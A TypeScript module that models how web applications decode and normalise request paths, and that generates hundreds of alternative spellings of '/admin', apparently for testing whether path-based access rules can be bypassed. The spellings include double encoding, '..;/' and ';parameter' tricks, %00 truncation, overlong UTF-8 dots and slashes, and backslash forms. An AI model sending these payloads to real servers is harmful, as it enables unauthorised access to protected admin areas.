/** Ways to write `/admin` that some application takes for it, and how applications read paths. */
import { posix } from 'node:path';

function decodedOnce(path: string): string {
  try {
    return decodeURIComponent(path);
  } catch {
    // As those do that know no UTF-8, and those that leave alone what they cannot read.
    return path.replace(/%([0-9A-Fa-f]{2})/g, (_, digits) =>
      String.fromCharCode(Number.parseInt(digits, 16)),
    );
  }
}

/** By what they do to the target before they look for who handles it. */
export const APPLICATIONS: Readonly<Record<string, (target: string) => string>> = {
  'takes it as it is': (target) => target.replace(/\?.*/, ''),
  'decodes once': (target) => decodedOnce(target.replace(/\?.*/, '')),
  'decodes twice': (target) => decodedOnce(decodedOnce(target.replace(/\?.*/, ''))),
  'decodes before it looks for the query': (target) => decodedOnce(target).replace(/[?#].*/, ''),
  'merges slashes': (target) => decodedOnce(target.replace(/\?.*/, '')).replace(/\/+/g, '/'),
  'resolves dots': (target) => posix.normalize(decodedOnce(target.replace(/\?.*/, ''))),
  'resolves dots, then decodes': (target) => decodedOnce(posix.normalize(target.replace(/\?.*/, ''))),
  'strips ;parameters': (target) =>
    posix.normalize(decodedOnce(target.replace(/\?.*/, '').replace(/;[^/]*/g, ''))),
  'decodes, then strips ;parameters': (target) =>
    decodedOnce(target.replace(/\?.*/, '')).replace(/;[^/]*/g, ''),
  'takes \\ for /': (target) =>
    posix.normalize(decodedOnce(target.replace(/\?.*/, '')).replaceAll('\\', '/')),
  'parses it as a URI reference': (target) => decodedOnce(new URL(target, 'http://localhost').pathname),
  'parses it decoded': (target) => new URL(decodedOnce(target), 'http://localhost').pathname,
  'ends at NUL': (target) => decodedOnce(target.replace(/\?.*/, '')).replace(/\0.*/s, ''),
  'knows overlong forms': (target) =>
    posix.normalize(
      decodedOnce(
        target
          .replace(/%c0%ae/gi, '.')
          .replace(/%c0%af|%e0%80%af/gi, '/')
          .replace(/\?.*/, ''),
      ),
    ),
};

/** True if that application serves its `/admin` for a target; it is none of those that tell `/admin/` from it. */
export function reachesAdmin(read: (target: string) => string, target: string): boolean {
  try {
    return read(target).replace(/(?<=.)\/$/, '') === '/admin';
  } catch {
    return false;
  }
}

/** At least 200 of them. */
export function spellings(): string[] {
  const found = new Set<string>();
  const slash = [
    '/',
    '//',
    '///',
    '/./',
    '/././',
    '/%2e/',
    '/%2E/',
    '/x/../',
    '/x/%2e%2e/',
    '/x/.%2e/',
    '/x/%2e./',
  ];
  slash.push(
    '//x/',
    '/x/y/../../',
    '/x/./../',
    '//x/../',
    '/x//../../',
    '/x/..//',
    '/../',
    '/%2e%2e/',
    '/x%2f..%2f',
    '/%2f',
  );
  slash.push(
    '/%2F%2F',
    '/\\',
    '\\',
    '/%5c',
    '/%5C',
    '/x\\..\\',
    '/x%5c..%5c',
    '/;/',
    '/;x/',
    '/;x=1/',
    '/x;/../',
    '/.;/',
  );
  slash.push(
    '/x/..;/',
    '/x/..;a=b/',
    '/%3b/',
    '/x/..%3b/',
    '/%252e/',
    '/x/%252e%252e/',
    '/%252f',
    '/%25%32%66',
  );
  slash.push(
    '/%c0%ae/',
    '/x/%c0%ae%c0%ae/',
    '/%c0%af',
    '/%e0%80%af',
    '/x/%2e%2e%2f',
    '/x/..%2f',
    '/x/..%5c',
    '/%20/../',
  );
  const names = [
    'admin',
    '%61dmin',
    'a%64min',
    'adm%69n',
    '%61%64%6d%69%6e',
    '%61%64%6D%69%6E',
    '%2561dmin',
    'a%2564min',
  ];
  names.push('%25%36%31dmin', '%252561dmin', 'admi%6e', 'admi%6E', '%u0061dmin', '%25u0061dmin');
  const ends = [
    '',
    '/',
    '//',
    '/.',
    '/./',
    '/%2e',
    '/x/..',
    '/x/../',
    '/x/%2e%2e',
    '?',
    '?x=1',
    '?/../x',
    '?x=%2F',
    ';',
  ];
  ends.push(
    ';x',
    ';x=1',
    '/;',
    '%3b',
    '%3bx',
    ';/',
    '%00',
    '%00.png',
    '/%00',
    '%3f',
    '%3Fx',
    '%23',
    '%23x',
    '%20',
    '%2f',
    '%2F',
  );
  ends.push(
    '\\',
    '%5c',
    '/.;',
    '/x/..;',
    '/x/..;/',
    '%2e%2e',
    '/..%2fadmin',
    '/../admin',
    '/%2e%2e/admin',
    '%2f%2e',
    '/x%2f..',
  );
  for (const before of slash)
    for (const name of ['admin', '%61dmin', '%2561dmin']) found.add(`${before}${name}`);
  for (const name of names) for (const end of ends) found.add(`/${name}${end}`);
  for (const before of slash.slice(0, 20))
    for (const end of ends.slice(0, 20)) found.add(`${before}admin${end}`);
  return [...found];
}
